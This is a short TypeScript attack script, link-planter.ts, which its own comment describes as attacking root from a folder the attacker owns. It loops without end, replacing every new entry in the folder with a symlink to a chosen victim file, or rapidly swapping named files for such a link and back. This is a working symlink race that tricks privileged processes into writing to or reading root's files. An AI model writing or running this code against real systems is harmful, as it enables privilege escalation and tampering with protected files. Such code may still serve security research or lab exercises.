import { readdirSync, renameSync, symlinkSync, unlinkSync, writeSync } from "node:fs";
import { join } from "node:path";

// Attacks root as the owner of a folder. It removes every new name in the folder and puts a link to a file of root in its
// place. With `flip`, it does so with the database, and puts the database back at once.
//
// link-planter.ts FOLDER VICTIM take|flip NAME...: the names to leave alone, or to exchange.

const [folder = "", victim = "", how = "", ...names] = process.argv.slice(2);

function attempt(work: () => void): void {
  try {
    work();
  } catch {} // Another process was faster.
}

function take(count: number): void {
  for (const entry of readdirSync(folder, { withFileTypes: true })) {
    if (entry.isSymbolicLink() || entry.name.startsWith(".taken") || names.includes(entry.name)) continue;
    const path = join(folder, entry.name);
    attempt(() => {
      renameSync(path, join(folder, `.taken-${count}-${entry.name}`));
      symlinkSync(victim, path);
    });
  }
}

function flip(): void {
  for (const name of names) {
    const path = join(folder, name);
    attempt(() => renameSync(path, `${path}.hidden`));
    attempt(() => symlinkSync(victim, path));
    attempt(() => unlinkSync(path));
    attempt(() => renameSync(`${path}.hidden`, path));
  }
}

writeSync(1, "planting\n");
for (let count = 0; ; count++) how === "take" ? take(count) : flip();
